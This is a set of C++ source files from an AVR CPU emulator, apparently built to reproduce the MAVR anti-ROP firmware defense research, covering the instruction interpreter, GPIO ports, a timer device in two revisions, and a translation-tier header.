  set_flag(kZ, keep_z ? (res == 0 && flag(kZ)) : (res == 0));
  set_flag(kS, n != v);
}

void Cpu::flags_logic(std::uint8_t res) {
  const bool n = bit7(res);
  set_flag(kV, false);
  set_flag(kN, n);
  set_flag(kZ, res == 0);
  set_flag(kS, n);  // S = N ^ V, V = 0
}

void Cpu::push_byte(std::uint8_t value) {
  // Stack traffic is deliberately not routed through load_mem/store_mem:
  // tracers observe it via on_sp_change / on_call / on_ret instead, keeping
  // on_load/on_store scoped to the program's explicit data accesses.
  const std::uint16_t sp_now = sp();
  data_.store(sp_now, value);
  set_sp(static_cast<std::uint16_t>(sp_now - 1));
}

std::uint8_t Cpu::pop_byte() {
  const std::uint16_t sp_now = static_cast<std::uint16_t>(sp() + 1);
  set_sp(sp_now);
  return data_.load(sp_now);
}

void Cpu::push_pc(std::uint32_t ret_words) {
  // Hardware pushes the LSB first, so ascending memory reads big-endian —
  // the byte order every ROP payload in the paper (Fig. 6) relies on.
  push_byte(static_cast<std::uint8_t>(ret_words & 0xFF));
  push_byte(static_cast<std::uint8_t>((ret_words >> 8) & 0xFF));
  if (spec_.pc_push_bytes == 3) {
    push_byte(static_cast<std::uint8_t>((ret_words >> 16) & 0xFF));
  }
}

std::uint32_t Cpu::pop_pc() {
  // Returns the raw popped value; callers apply pc_mask_. Preserving the
  // unmasked bytes lets a wild return from a smashed stack be diagnosed
  // instead of silently wrapping into valid flash.
  std::uint32_t value = 0;
  if (spec_.pc_push_bytes == 3) value = pop_byte();
  value = (value << 8) | pop_byte();
  value = (value << 8) | pop_byte();
  return value;
}

std::uint32_t Cpu::skip_target(std::uint32_t next_pc) const {
  // Skip over the next instruction: 1 or 2 words.
  const std::uint16_t w = flash_.word(next_pc);
  return (next_pc + (is_two_word(w) ? 2 : 1)) & pc_mask_;
}

void Cpu::fault_now(std::uint32_t pc_words, std::uint16_t opcode,
                    std::string reason) {
  state_ = CpuState::Faulted;
  fault_.pc_words = pc_words;
  fault_.opcode = opcode;
  fault_.reason = std::move(reason);
  fault_.cycle = cycles_;
  fault_.last_ret_raw_words = last_ret_raw_words_;
  fault_.last_ret_wrapped = last_ret_wrapped_;
}

template <bool kTraced>
std::uint8_t Cpu::load_mem(std::uint32_t addr) {
  const std::uint8_t value = data_.load(addr);
  if constexpr (kTraced) tracer_->on_load(*this, addr, value);
  return value;
}

template <bool kTraced>
void Cpu::store_mem(std::uint32_t addr, std::uint8_t value) {
  data_.store(addr, value);
  if constexpr (kTraced) tracer_->on_store(*this, addr, value);
}

// The interpreter body is instantiated twice: the kTraced=false build is
// byte-for-byte the old hook-free loop, the kTraced=true build weaves the
// Tracer callbacks in. step()/run() pick an instantiation with a single
// null-pointer branch, so disabling tracing costs nothing in the hot path.
template <bool kTraced>
void Cpu::step_impl() {
  if (state_ != CpuState::Running) return;

  const std::uint32_t pc0 = pc_;
  [[maybe_unused]] std::uint16_t sp0 = 0;
  if constexpr (kTraced) sp0 = sp();
  const Instr& in = decoded(pc0);
  std::uint32_t next = (pc0 + in.size_words) & pc_mask_;
  std::uint32_t cyc = 1;

  switch (in.op) {
    case Op::Invalid:
      fault_now(pc0, flash_.word(pc0),
                "invalid opcode " + support::hex_value(flash_.word(pc0)));
      if constexpr (kTraced) tracer_->on_fault(*this, fault_);
      return;

    case Op::Nop:
    case Op::Sleep:
    case Op::Wdr:
    case Op::Spm:
      break;
    case Op::Break:
      state_ = CpuState::Stopped;
      break;

    // --- Two-register ALU ---------------------------------------------
    case Op::Add: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t res = static_cast<std::uint8_t>(d + r);
      set_reg(in.rd, res);
      flags_add(d, r, 0, res);
      break;
    }
    case Op::Adc: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t carry = flag(kC);
      const std::uint8_t res = static_cast<std::uint8_t>(d + r + carry);
      set_reg(in.rd, res);
      flags_add(d, r, carry, res);
      break;
    }
    case Op::Sub: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      set_reg(in.rd, res);
      flags_sub(d, r, 0, res, /*keep_z=*/false);
      break;
    }
    case Op::Sbc: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t borrow = flag(kC);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r - borrow);
      set_reg(in.rd, res);
      flags_sub(d, r, borrow, res, /*keep_z=*/true);
      break;
    }
    case Op::And: {
      const std::uint8_t res = reg(in.rd) & reg(in.rr);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Or: {
      const std::uint8_t res = reg(in.rd) | reg(in.rr);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Eor: {
      const std::uint8_t res = reg(in.rd) ^ reg(in.rr);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Mov:
      set_reg(in.rd, reg(in.rr));
      break;
    case Op::Movw:
      set_reg(in.rd, reg(in.rr));
      set_reg(in.rd + 1, reg(in.rr + 1));
      break;
    case Op::Mul: {
      const std::uint16_t res =
          static_cast<std::uint16_t>(unsigned(reg(in.rd)) * reg(in.rr));
      set_reg(0, static_cast<std::uint8_t>(res & 0xFF));
      set_reg(1, static_cast<std::uint8_t>(res >> 8));
      set_flag(kC, (res >> 15) & 1);
      set_flag(kZ, res == 0);
      cyc = 2;
      break;
    }
    case Op::Cp: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      flags_sub(d, r, 0, static_cast<std::uint8_t>(d - r), false);
      break;
    }
    case Op::Cpc: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t borrow = flag(kC);
      flags_sub(d, r, borrow, static_cast<std::uint8_t>(d - r - borrow),
                /*keep_z=*/true);
      break;
    }
    case Op::Cpse: {
      if (reg(in.rd) == reg(in.rr)) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    }

    // --- Immediate ALU -------------------------------------------------
    case Op::Ldi:
      set_reg(in.rd, static_cast<std::uint8_t>(in.k));
      break;
    case Op::Subi: {
      const std::uint8_t d = reg(in.rd), r = static_cast<std::uint8_t>(in.k);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      set_reg(in.rd, res);
      flags_sub(d, r, 0, res, false);
      break;
    }
    case Op::Sbci: {
      const std::uint8_t d = reg(in.rd), r = static_cast<std::uint8_t>(in.k);
      const std::uint8_t borrow = flag(kC);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r - borrow);
      set_reg(in.rd, res);
      flags_sub(d, r, borrow, res, /*keep_z=*/true);
      break;
    }
    case Op::Andi: {
      const std::uint8_t res = reg(in.rd) & static_cast<std::uint8_t>(in.k);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Ori: {
      const std::uint8_t res = reg(in.rd) | static_cast<std::uint8_t>(in.k);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Cpi: {
      const std::uint8_t d = reg(in.rd), r = static_cast<std::uint8_t>(in.k);
      flags_sub(d, r, 0, static_cast<std::uint8_t>(d - r), false);
      break;
    }

    // --- One-register ALU ----------------------------------------------
    case Op::Com: {
      const std::uint8_t res = static_cast<std::uint8_t>(~reg(in.rd));
      set_reg(in.rd, res);
      flags_logic(res);
      set_flag(kC, true);
      break;
    }
    case Op::Neg: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res = static_cast<std::uint8_t>(0 - d);
      set_reg(in.rd, res);
      set_flag(kH, (bit3(res) | bit3(d)) != 0);
      set_flag(kC, res != 0);
      set_flag(kV, res == 0x80);
      set_flag(kN, bit7(res));
      set_flag(kZ, res == 0);
      set_flag(kS, flag(kN) != flag(kV));
      break;
    }
    case Op::Inc: {
      const std::uint8_t res = static_cast<std::uint8_t>(reg(in.rd) + 1);
      set_reg(in.rd, res);
      set_flag(kV, res == 0x80);
      set_flag(kN, bit7(res));
      set_flag(kZ, res == 0);
      set_flag(kS, flag(kN) != flag(kV));
      break;
    }
    case Op::Dec: {
      const std::uint8_t res = static_cast<std::uint8_t>(reg(in.rd) - 1);
      set_reg(in.rd, res);
      set_flag(kV, res == 0x7F);
      set_flag(kN, bit7(res));
      set_flag(kZ, res == 0);
      set_flag(kS, flag(kN) != flag(kV));
      break;
    }
    case Op::Swap: {
      const std::uint8_t d = reg(in.rd);
      set_reg(in.rd,
              static_cast<std::uint8_t>((d << 4) | (d >> 4)));
      break;
    }
    case Op::Asr: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res = static_cast<std::uint8_t>((d >> 1) | (d & 0x80));
      set_reg(in.rd, res);
      set_flag(kC, d & 1);
      set_flag(kN, bit7(res));
      set_flag(kZ, res == 0);
      set_flag(kV, flag(kN) != flag(kC));
      set_flag(kS, flag(kN) != flag(kV));
      break;
    }
    case Op::Lsr: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res = static_cast<std::uint8_t>(d >> 1);
      set_reg(in.rd, res);
      set_flag(kC, d & 1);
      set_flag(kN, false);
      set_flag(kZ, res == 0);
      set_flag(kV, flag(kC));
      set_flag(kS, flag(kV));
      break;
    }
    case Op::Ror: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res =
          static_cast<std::uint8_t>((d >> 1) | (flag(kC) ? 0x80 : 0));
      set_reg(in.rd, res);
      set_flag(kC, d & 1);
      set_flag(kN, bit7(res));
      set_flag(kZ, res == 0);
      set_flag(kV, flag(kN) != flag(kC));
      set_flag(kS, flag(kN) != flag(kV));
      break;
    }
    case Op::Adiw: {
      const std::uint16_t d = reg_pair(in.rd);
      const std::uint16_t res = static_cast<std::uint16_t>(d + in.k);
      set_reg_pair(in.rd, res);
      const bool rdh7 = (d >> 15) & 1, r15 = (res >> 15) & 1;
      set_flag(kV, !rdh7 && r15);
      set_flag(kC, !r15 && rdh7);
      set_flag(kN, r15);
      set_flag(kZ, res == 0);
      set_flag(kS, flag(kN) != flag(kV));
      cyc = 2;
      break;
    }
    case Op::Sbiw: {
      const std::uint16_t d = reg_pair(in.rd);
      const std::uint16_t res = static_cast<std::uint16_t>(d - in.k);
      set_reg_pair(in.rd, res);
      const bool rdh7 = (d >> 15) & 1, r15 = (res >> 15) & 1;
      set_flag(kV, rdh7 && !r15);
      set_flag(kC, r15 && !rdh7);
      set_flag(kN, r15);
      set_flag(kZ, res == 0);
      set_flag(kS, flag(kN) != flag(kV));
      cyc = 2;
      break;
    }

    // --- Control flow ---------------------------------------------------
    case Op::Rjmp:
      next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
      cyc = 2;
      break;
    case Op::Rcall: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
      cyc = spec_.pc_push_bytes == 3 ? 4 : 3;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Jmp:
      next = static_cast<std::uint32_t>(in.target) & pc_mask_;
      cyc = 3;
      break;
    case Op::Call: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = static_cast<std::uint32_t>(in.target) & pc_mask_;
      cyc = spec_.pc_push_bytes == 3 ? 5 : 4;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Ijmp:
      next = reg_pair(30) & pc_mask_;
      cyc = 2;
      break;
    case Op::Icall: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = reg_pair(30) & pc_mask_;
      cyc = spec_.pc_push_bytes == 3 ? 4 : 3;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Eijmp:
      next = ((static_cast<std::uint32_t>(data_.raw(kAddrEind)) << 16) |
              reg_pair(30)) &
             pc_mask_;
      cyc = 2;
      break;
    case Op::Eicall: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = ((static_cast<std::uint32_t>(data_.raw(kAddrEind)) << 16) |
              reg_pair(30)) &
             pc_mask_;
      cyc = 4;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Ret:
    case Op::Reti: {
      const std::uint32_t raw = pop_pc();
      next = raw & pc_mask_;
      last_ret_raw_words_ = raw;
      last_ret_wrapped_ = (raw & ~pc_mask_) != 0;
      if (in.op == Op::Reti) set_flag(kI, true);
      cyc = spec_.pc_push_bytes == 3 ? 5 : 4;
      if constexpr (kTraced) {
        tracer_->on_ret(*this, pc0, next, raw, in.op == Op::Reti);
      }
      break;
    }
    case Op::Brbs:
      if (flag(static_cast<SregBit>(in.bit))) {
        next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
        cyc = 2;
      }
      break;
    case Op::Brbc:
      if (!flag(static_cast<SregBit>(in.bit))) {
        next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
        cyc = 2;
      }
      break;
    case Op::Sbrc:
      if (!((reg(in.rd) >> in.bit) & 1)) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    case Op::Sbrs:
      if ((reg(in.rd) >> in.bit) & 1) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    case Op::Sbic:
      if (!((load_mem<kTraced>(kIoBase + in.k) >> in.bit) & 1)) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    case Op::Sbis:
      if ((load_mem<kTraced>(kIoBase + in.k) >> in.bit) & 1) {
        next = skip_target(next);
        cyc = 2;
      }
      break;

    // --- Data transfer ---------------------------------------------------
    case Op::Lds:
      set_reg(in.rd, load_mem<kTraced>(in.k));
      cyc = 2;
      break;
    case Op::Sts:
      store_mem<kTraced>(in.k, reg(in.rd));
      cyc = 2;
      break;
    case Op::LdX:
      set_reg(in.rd, load_mem<kTraced>(reg_pair(26)));
      cyc = 2;
      break;
    case Op::LdXInc: {
      const std::uint16_t x = reg_pair(26);
      set_reg(in.rd, load_mem<kTraced>(x));
      set_reg_pair(26, static_cast<std::uint16_t>(x + 1));
      cyc = 2;
      break;
    }
    case Op::LdXDec: {
      const std::uint16_t x = static_cast<std::uint16_t>(reg_pair(26) - 1);
      set_reg_pair(26, x);
      set_reg(in.rd, load_mem<kTraced>(x));
      cyc = 2;
      break;
    }
    case Op::LdYInc: {
      const std::uint16_t y = reg_pair(28);
      set_reg(in.rd, load_mem<kTraced>(y));
      set_reg_pair(28, static_cast<std::uint16_t>(y + 1));
      cyc = 2;
      break;
    }
    case Op::LdYDec: {
      const std::uint16_t y = static_cast<std::uint16_t>(reg_pair(28) - 1);
      set_reg_pair(28, y);
      set_reg(in.rd, load_mem<kTraced>(y));
      cyc = 2;
      break;
    }
    case Op::LddY:
      set_reg(in.rd, load_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(28) + in.k)));
      cyc = 2;
      break;
    case Op::LdZInc: {
      const std::uint16_t z = reg_pair(30);
      set_reg(in.rd, load_mem<kTraced>(z));
      set_reg_pair(30, static_cast<std::uint16_t>(z + 1));
      cyc = 2;
      break;
    }
    case Op::LdZDec: {
      const std::uint16_t z = static_cast<std::uint16_t>(reg_pair(30) - 1);
      set_reg_pair(30, z);
      set_reg(in.rd, load_mem<kTraced>(z));
      cyc = 2;
      break;
    }
    case Op::LddZ:
      set_reg(in.rd, load_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(30) + in.k)));
      cyc = 2;
      break;
    case Op::StX:
      store_mem<kTraced>(reg_pair(26), reg(in.rd));
      cyc = 2;
      break;
    case Op::StXInc: {
      const std::uint16_t x = reg_pair(26);
      store_mem<kTraced>(x, reg(in.rd));
      set_reg_pair(26, static_cast<std::uint16_t>(x + 1));
      cyc = 2;
      break;
    }
    case Op::StXDec: {
      const std::uint16_t x = static_cast<std::uint16_t>(reg_pair(26) - 1);
      set_reg_pair(26, x);
      store_mem<kTraced>(x, reg(in.rd));
      cyc = 2;
      break;
    }
    case Op::StYInc: {
      const std::uint16_t y = reg_pair(28);
      store_mem<kTraced>(y, reg(in.rd));
      set_reg_pair(28, static_cast<std::uint16_t>(y + 1));
      cyc = 2;
      break;
    }
    case Op::StYDec: {
      const std::uint16_t y = static_cast<std::uint16_t>(reg_pair(28) - 1);
      set_reg_pair(28, y);
      store_mem<kTraced>(y, reg(in.rd));
      cyc = 2;
      break;
    }
    case Op::StdY:
      store_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(28) + in.k), reg(in.rd));
      cyc = 2;
      break;
    case Op::StZInc: {
      const std::uint16_t z = reg_pair(30);
      store_mem<kTraced>(z, reg(in.rd));
      set_reg_pair(30, static_cast<std::uint16_t>(z + 1));
      cyc = 2;
      break;
    }
    case Op::StZDec: {
      const std::uint16_t z = static_cast<std::uint16_t>(reg_pair(30) - 1);
      set_reg_pair(30, z);
      store_mem<kTraced>(z, reg(in.rd));
      cyc = 2;
      break;
    }
    case Op::StdZ:
      store_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(30) + in.k), reg(in.rd));
      cyc = 2;
      break;
    case Op::LpmR0:
      set_reg(0, flash_.byte(reg_pair(30)));
      cyc = 3;
      break;
    case Op::Lpm:
      set_reg(in.rd, flash_.byte(reg_pair(30)));
      cyc = 3;
      break;
    case Op::LpmInc: {
      const std::uint16_t z = reg_pair(30);
      set_reg(in.rd, flash_.byte(z));
      set_reg_pair(30, static_cast<std::uint16_t>(z + 1));
      cyc = 3;
      break;
    }
    case Op::ElpmR0:
    case Op::Elpm:
    case Op::ElpmInc: {
      const std::uint32_t z =
          (static_cast<std::uint32_t>(data_.raw(kAddrRampz)) << 16) |
          reg_pair(30);
      const std::uint8_t dest = (in.op == Op::ElpmR0) ? 0 : in.rd;
      set_reg(dest, flash_.byte(z));
      if (in.op == Op::ElpmInc) {
        const std::uint32_t z1 = z + 1;
        set_reg_pair(30, static_cast<std::uint16_t>(z1 & 0xFFFF));
        data_.set_raw(kAddrRampz, static_cast<std::uint8_t>((z1 >> 16) & 0xFF));
      }
      cyc = 3;
      break;
    }
    case Op::In:
      set_reg(in.rd, load_mem<kTraced>(kIoBase + in.k));
      break;
    case Op::Out:
      store_mem<kTraced>(kIoBase + in.k, reg(in.rd));
      break;
    case Op::Push:
      push_byte(reg(in.rd));
      cyc = 2;
      break;
    case Op::Pop:
      set_reg(in.rd, pop_byte());
      cyc = 2;
      break;

    // --- Bit operations ---------------------------------------------------
    case Op::Sbi: {
      const std::uint32_t addr = kIoBase + in.k;
      store_mem<kTraced>(addr, static_cast<std::uint8_t>(load_mem<kTraced>(addr) |
                                                  (1u << in.bit)));
      cyc = 2;
      break;
    }
    case Op::Cbi: {
      const std::uint32_t addr = kIoBase + in.k;
      store_mem<kTraced>(addr, static_cast<std::uint8_t>(load_mem<kTraced>(addr) &
                                                  ~(1u << in.bit)));
      cyc = 2;
      break;
    }
    case Op::Bset:
      set_flag(static_cast<SregBit>(in.bit), true);
      break;
    case Op::Bclr:
      set_flag(static_cast<SregBit>(in.bit), false);
      break;
    case Op::Bst:
      set_flag(kT, (reg(in.rd) >> in.bit) & 1);
      break;
    case Op::Bld: {
      std::uint8_t d = reg(in.rd);
      if (flag(kT)) {
        d |= static_cast<std::uint8_t>(1u << in.bit);
      } else {
        d &= static_cast<std::uint8_t>(~(1u << in.bit));
      }
      set_reg(in.rd, d);
      break;
    }
  }

  if constexpr (kTraced) {
    // Fires before the PC advances so watchpoint hits report the pc of the
    // instruction that moved SP (the stk_move pivot's OUT, a push, ...).
    const std::uint16_t sp1 = sp();
    if (sp1 != sp0) tracer_->on_sp_change(*this, sp0, sp1);
  }

  pc_ = next & pc_mask_;
  cycles_ += cyc;
  ++retired_;
  io_.tick(cycles_);

  if constexpr (kTraced) tracer_->on_retire(*this, pc0, in, cyc);

  // Interrupt delivery between instructions (lowest vector slot wins).
  if (flag(kI) && !irq_lines_.empty()) {
    for (auto& [slot, take] : irq_lines_) {
      if (!take()) continue;
      const std::uint32_t from = pc_;
      [[maybe_unused]] std::uint16_t sp_before = 0;
      if constexpr (kTraced) sp_before = sp();
      push_pc(from);
      set_flag(kI, false);
      pc_ = (static_cast<std::uint32_t>(slot) * 2) & pc_mask_;
      cycles_ += 5;
      ++interrupts_taken_;
      if constexpr (kTraced) {
        tracer_->on_sp_change(*this, sp_before, sp());
        tracer_->on_irq(*this, slot, from);
      }
      break;
    }
  }
}

void Cpu::step() {
  if (tracer_ == nullptr) [[likely]] {
    step_impl<false>();
  } else {
    step_impl<true>();
  }
}

void Cpu::set_irq_line(std::uint8_t vector_slot, std::function<bool()> take) {
  irq_lines_.emplace_back(vector_slot, std::move(take));
  std::sort(irq_lines_.begin(), irq_lines_.end(),
            [](const auto& a, const auto& b) { return a.first < b.first; });
}

std::uint64_t Cpu::run(std::uint64_t cycle_budget) {
  const std::uint64_t start = cycles_;
  const std::uint64_t deadline = start + cycle_budget;
  // Hoist the tracer dispatch out of the loop: the untraced instantiation
  // is the pre-observability interpreter, branch-free on the hot path.
  if (tracer_ == nullptr) [[likely]] {
    while (state_ == CpuState::Running && cycles_ < deadline) {
      step_impl<false>();
    }
  } else {
    while (state_ == CpuState::Running && cycles_ < deadline) {
      step_impl<true>();
    }
  }
  return cycles_ - start;
}

}  // namespace mavr::avr
