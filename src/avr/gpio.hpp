// Output-port device that records every write with its timestamp.
//
// Two roles in the reproduction:
//  * the watchdog *feed line* the application toggles each control-loop
//    iteration and the master processor monitors to detect failed attacks
//    (paper §V-A2, §VI-A);
//  * servo/actuator outputs, whose write trace is the observable behaviour
//    used by the semantic-preservation tests (randomized firmware must
//    produce a bit-identical trace).
#pragma once

#include <cstdint>
#include <vector>

#include "avr/io.hpp"

namespace mavr::avr {

class OutputPort {
 public:
  struct Write {
    std::uint64_t cycle;
    std::uint8_t value;
    bool operator==(const Write&) const = default;
  };

  /// Registers the port at data-space address `addr`. When `record_history`
  /// is set every write is kept (trace comparison); otherwise only the last
  /// write survives (cheap watchdog feed line).
  OutputPort(IoBus& bus, std::uint16_t addr, bool record_history);

  std::uint8_t value() const { return value_; }

  /// Cycle of the most recent firmware write (0 when never written).
  std::uint64_t last_write_cycle() const { return last_write_cycle_; }

  std::uint64_t write_count() const { return write_count_; }

  const std::vector<Write>& history() const { return history_; }
  void clear_history() { history_.clear(); }

 private:
  void write(std::uint8_t v);  ///< dispatched firmware-store handler

  IoBus& bus_;  ///< write timestamps come from the bus clock
  std::uint16_t addr_;
  std::uint8_t value_ = 0;
  std::uint64_t last_write_cycle_ = 0;
  std::uint64_t write_count_ = 0;
  bool record_history_;
  std::vector<Write> history_;
};

/// Input-port device whose value the simulation harness sets and the
/// firmware reads (sensor front-ends). The value is a latched RAM-backed
/// register — firmware reads are plain RAM loads, no dispatch.
class InputPort {
 public:
  InputPort(IoBus& bus, std::uint16_t addr);

  void set(std::uint8_t value) { bus_.poke(addr_, value); }
  std::uint8_t value() const { return bus_.peek(addr_); }

 private:
  IoBus& bus_;
  std::uint16_t addr_;
};

}  // namespace mavr::avr
