// Periodic compare-match timer — the interrupt source that gives the
// autopilot its real-time tick (the paper's "numerous interrupts with
// strict timetables", §III).
//
// Minimal model: fires every `period_cycles`; a single pending flag
// (unserviced overflows collapse, like a compare-match flag).
#pragma once

#include <cstdint>

#include "avr/io.hpp"
#include "support/error.hpp"

namespace mavr::avr {

class Timer : public Tickable {
 public:
  /// `period_cycles` must be nonzero: a zero period would make tick()'s
  /// catch-up loop (`next_ += period_`) spin forever on the first tick.
  Timer(IoBus& bus, std::uint64_t period_cycles)
      : period_(period_cycles), next_(period_cycles) {
    MAVR_REQUIRE(period_cycles > 0, "timer period must be nonzero");
    bus.add_tickable(this);
  }

  /// Interrupt-line query for Cpu::set_irq_line: true when pending
  /// (clears the flag — the hardware ack on vector entry).
  bool take_irq() {
    const bool was = pending_;
    pending_ = false;
    return was;
  }

  bool pending() const { return pending_; }
  std::uint64_t fires() const { return fires_; }

  void tick(std::uint64_t now_cycles) override {
    while (now_cycles >= next_) {
      pending_ = true;
      ++fires_;
      next_ += period_;
    }
  }

 private:
  std::uint64_t period_;
  std::uint64_t next_;
  bool pending_ = false;
  std::uint64_t fires_ = 0;
};

}  // namespace mavr::avr
