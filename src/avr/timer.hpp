// Periodic compare-match timer — the interrupt source that gives the
// autopilot its real-time tick (the paper's "numerous interrupts with
// strict timetables", §III).
//
// Minimal model: fires every `period_cycles`; a single pending flag
// (unserviced overflows collapse, like a compare-match flag). The timer is
// the canonical deadline-bearing device of the event-driven I/O bus: it
// reports its next compare match through next_event_cycles() so the CPU
// only dispatches tick() on the instruction that crosses it, and catch-up
// over an arbitrary gap is closed-form rather than a per-period loop.
#pragma once

#include <cstdint>

#include "avr/io.hpp"
#include "support/error.hpp"

namespace mavr::avr {

class Timer : public Tickable {
 public:
  /// `period_cycles` must be nonzero: a zero period would schedule the
  /// next compare match zero cycles ahead, forever.
  Timer(IoBus& bus, std::uint64_t period_cycles)
      : bus_(bus), period_(period_cycles), next_(period_cycles) {
    MAVR_REQUIRE(period_cycles > 0, "timer period must be nonzero");
    bus.add_tickable(this);
  }

  /// Interrupt-line query for Cpu::set_irq_line: true when pending
  /// (clears the flag — the hardware ack on vector entry).
  bool take_irq() {
    const bool was = pending_;
    pending_ = false;
    return was;
  }

  bool pending() const { return pending_; }
  std::uint64_t fires() const { return fires_; }

  void tick(std::uint64_t now_cycles) override {
    if (now_cycles < next_) return;
    // Closed-form catch-up: identical fires()/pending semantics to the old
    // `while (now >= next_) next_ += period_` loop, in O(1) for any gap.
    const std::uint64_t elapsed_fires = (now_cycles - next_) / period_ + 1;
    fires_ += elapsed_fires;
    next_ += elapsed_fires * period_;
    pending_ = true;
    bus_.raise_irq();
  }

  std::uint64_t next_event_cycles() const override { return next_; }

 private:
  IoBus& bus_;
  std::uint64_t period_;
  std::uint64_t next_;
  bool pending_ = false;
  std::uint64_t fires_ = 0;
};

}  // namespace mavr::avr
