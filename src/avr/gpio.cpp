#include "avr/gpio.hpp"

namespace mavr::avr {

OutputPort::OutputPort(IoBus& bus, std::uint16_t addr, bool record_history)
    : bus_(bus), record_history_(record_history) {
  bus.on_read(addr, [this] { return value_; });
  bus.on_write(addr, [this](std::uint8_t v) {
    value_ = v;
    last_write_cycle_ = bus_.now();
    ++write_count_;
    if (record_history_) {
      history_.push_back(Write{.cycle = bus_.now(), .value = v});
    }
  });
}

InputPort::InputPort(IoBus& bus, std::uint16_t addr) {
  bus.on_read(addr, [this] { return value_; });
}

}  // namespace mavr::avr
