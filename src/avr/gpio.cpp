#include "avr/gpio.hpp"

namespace mavr::avr {

OutputPort::OutputPort(IoBus& bus, std::uint16_t addr, bool record_history)
    : bus_(bus), addr_(addr), record_history_(record_history) {
  // Readback is latched: the write handler keeps the last value in CPU RAM
  // so firmware loads of the port skip dispatch entirely.
  bus.make_latched(addr);
  bus.on_write(
      addr,
      [](void* self, std::uint8_t v) {
        static_cast<OutputPort*>(self)->write(v);
      },
      this);
}

void OutputPort::write(std::uint8_t v) {
  value_ = v;
  bus_.poke(addr_, v);
  last_write_cycle_ = bus_.now();
  ++write_count_;
  if (record_history_) {
    history_.push_back(Write{.cycle = bus_.now(), .value = v});
  }
}

InputPort::InputPort(IoBus& bus, std::uint16_t addr)
    : bus_(bus), addr_(addr) {
  bus.make_latched(addr);
  bus.poke(addr, 0);
}

}  // namespace mavr::avr
