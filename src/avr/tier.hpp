// Superblock translation tier above the per-word decode cache.
//
// A superblock is a run of pre-resolved micro-ops that spans control
// flow the translator can follow — static jumps fold away, static calls
// inline their callees, a RET whose call was followed in the same block
// becomes a predicted continuation, and conditional branches become
// mid-block exits — ending at a dynamic transfer, an SREG-wholesale
// write, the size cap, or an instruction the translator cannot prove
// side-effect-free against the I/O bus (the dispatch map is resolved at
// translate time, so unclaimed I/O-region accesses compile to plain RAM
// moves). A peephole pass then fuses adjacent pure-op pairs into single
// dispatches. The executor (Cpu::run_tier in cpu.cpp) runs a block with
// PC, the cycle counter and SREG in locals and only re-enters the
// interpreter — one cycle-exact single step — at block boundaries that
// need it: an interrupt is pending, an accessed address is
// device-dispatched, the stack leaves plain RAM, or the run/tick
// deadline would fall inside the block.
//
// Translations are keyed to ProgramMemory::generation() and
// IoBus::handler_generation(): every reflash (chip erase, page program,
// last-known-good fallback) bumps the flash generation, and the cache
// invalidates by bumping an epoch tag rather than clearing the per-word
// map — O(1) per reflash, which matters because the MAVR defense
// reprograms flash constantly. A handler registered after translation
// invalidates the same way, so statically-resolved dispatch never goes
// stale.
#pragma once

#include <cstdint>
#include <vector>

#include "avr/memory.hpp"

namespace mavr::avr {

/// Micro-op opcodes. Straight-line kinds first, terminators after
/// kFirstTerminator; the executor's dispatch table is indexed by this
/// value, so the enum must stay dense.
enum class TierOpKind : std::uint8_t {
  // Two-register / immediate ALU.
  kAdd, kAdc, kSub, kSbc, kAnd, kOr, kEor, kMov, kMovw, kMul,
  kCp, kCpc, kLdi, kSubi, kSbci, kAndi, kOri, kCpi,
  // One-register ALU and SREG bit ops (kBset never carries bit I — that
  // encoding terminates the block so interrupt delivery stays exact).
  kCom, kNeg, kInc, kDec, kSwap, kAsr, kLsr, kRor, kAdiw, kSbiw,
  kBset, kBclr, kBst, kBld, kNop,
  // Static-address data transfer. kLdsRam/kStsRam target plain SRAM;
  // the *Low variants sit inside the I/O region and test the dispatch
  // map at run time (side-exit when a device handles the address).
  kLdsRam, kStsRam, kLdsLow, kStsLow, kLdsSreg,
  kIn, kInSreg, kOut,
  kSbi, kCbi,
  // Pointer-addressed data transfer: address computed, then guarded
  // against the plain-RAM window before any architectural state moves.
  kLdX, kLdXInc, kLdXDec, kLdYInc, kLdYDec, kLddY, kLdZInc, kLdZDec, kLddZ,
